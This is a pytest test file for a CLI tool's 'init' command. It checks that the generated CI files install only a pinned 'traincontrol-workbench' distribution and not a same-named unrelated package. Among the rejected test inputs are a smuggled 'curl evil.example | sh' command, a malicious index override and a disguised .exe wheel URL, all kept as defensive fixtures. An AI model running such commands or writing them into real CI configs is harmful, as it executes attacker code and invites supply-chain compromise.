"""A distribution name of our own (issue 32, item 4).

``workbench`` on the package index is an unrelated project: the CI files that
``workbench init`` writes must install exactly ``traincontrol-workbench``,
pinned (a version, a commit or a wheel), and nothing else.
"""
import re
import tomllib
from importlib import metadata
from pathlib import Path

import pytest
from packaging.requirements import Requirement

import workbench
from workbench.cli import main

ROOT = Path(__file__).resolve().parents[1]
CI_FILES = (".github/workflows/workbench.yml", ".gitlab-ci.yml")
SHA = "0123456789abcdef0123456789abcdef01234567"


def _install_lines(project: Path) -> list[str]:
    """The argument of every ``pip install`` line of the project's CI files."""
    args = []
    for ci in CI_FILES:
        lines = [ln for ln in (project / ci).read_text().splitlines() if "pip install" in ln]
        assert len(lines) == 1, (ci, lines)
        code = lines[0].split("#")[0]
        m = re.fullmatch(r'\s*(- |run: )?python -m pip install "([^"]+)"\s*', code)
        assert m, code                       # one quoted argument, no options, no second name
        args.append(m.group(2))
    return args


def test_the_distribution_is_ours_and_the_import_name_stays():
    conf = tomllib.loads((ROOT / "pyproject.toml").read_text())
    assert conf["project"]["name"] == workbench.DISTRIBUTION == "traincontrol-workbench"
    assert conf["project"]["scripts"] == {"workbench": "workbench.cli:main"}
    assert workbench.version() == metadata.version("traincontrol-workbench")
    files = metadata.files("traincontrol-workbench") or []
    assert metadata.distribution("traincontrol-workbench").entry_points.select(
        group="console_scripts", name="workbench"), files


def test_version_flag(capsys):
    assert main(["--version"]) == 0
    out = capsys.readouterr().out.strip()
    assert out == f"workbench {workbench.version()} (distribution traincontrol-workbench)"


def test_init_installs_our_distribution_and_nothing_else(tmp_path, capsys):
    assert main(["init", str(tmp_path / "p")]) == 0
    for arg in _install_lines(tmp_path / "p"):
        req = Requirement(arg)
        assert req.name == "traincontrol-workbench" and not req.marker and not req.url
        (spec,) = req.specifier
        assert spec.operator == "==" and spec.version == workbench.version()


@pytest.mark.parametrize("given, written", [
    ("traincontrol-workbench==0.1.0", "traincontrol-workbench==0.1.0"),
    ("traincontrol-workbench[fast]==0.2.0rc1", "traincontrol-workbench[fast]==0.2.0rc1"),
    (f"git+https://git.example.org/team/wb.git@{SHA}",
     f"traincontrol-workbench @ git+https://git.example.org/team/wb.git@{SHA}"),
    (f"traincontrol-workbench @ git+ssh://git@git.example.org/team/wb.git@{SHA}",
     f"traincontrol-workbench @ git+ssh://git@git.example.org/team/wb.git@{SHA}"),
    ("dist/traincontrol_workbench-0.1.0-py3-none-any.whl",
     "dist/traincontrol_workbench-0.1.0-py3-none-any.whl"),
    ("https://files.example.org/traincontrol_workbench-0.1.0-py3-none-any.whl",
     "https://files.example.org/traincontrol_workbench-0.1.0-py3-none-any.whl"),
])
def test_init_pinned_forms(tmp_path, capsys, given, written):
    assert main(["init", "--requirement", given, str(tmp_path / "p")]) == 0
    args = _install_lines(tmp_path / "p")
    assert args == [written, written]
    req = written if "@" in written or "==" in written else None
    if req:
        assert Requirement(req).name == "traincontrol-workbench"


@pytest.mark.parametrize("bad", [
    "workbench==0.1.0",                             # the unrelated project on the index
    "workbench",
    "traincontrol-workbench",                       # unpinned
    "traincontrol-workbench>=0.1",                  # a range
    "traincontrol-workbench==0.1.*",
    "traincontrol-workbench==0.1.0; python_version>'3'",
    "git+https://git.example.org/team/wb.git",      # no commit
    "git+https://git.example.org/team/wb.git@main",  # a branch moves
    "http://evil.example/traincontrol_workbench-0.1.0-py3-none-any.whl.exe",
    "dist/other_package-0.1.0-py3-none-any.whl",
    "-i http://evil.example traincontrol-workbench==0.1.0",
    'traincontrol-workbench==0.1.0" && curl evil.example | sh "',
    "traincontrol-workbench==0.1.0\nworkbench",
    "",
])
def test_init_refuses_anything_else(tmp_path, capsys, bad):
    assert main(["init", "--requirement", bad, str(tmp_path / "p")]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "--requirement" in err
    assert "traincontrol-workbench==VERSION" in err and "Traceback" not in err
    assert not (tmp_path / "p").exists()                      # nothing written
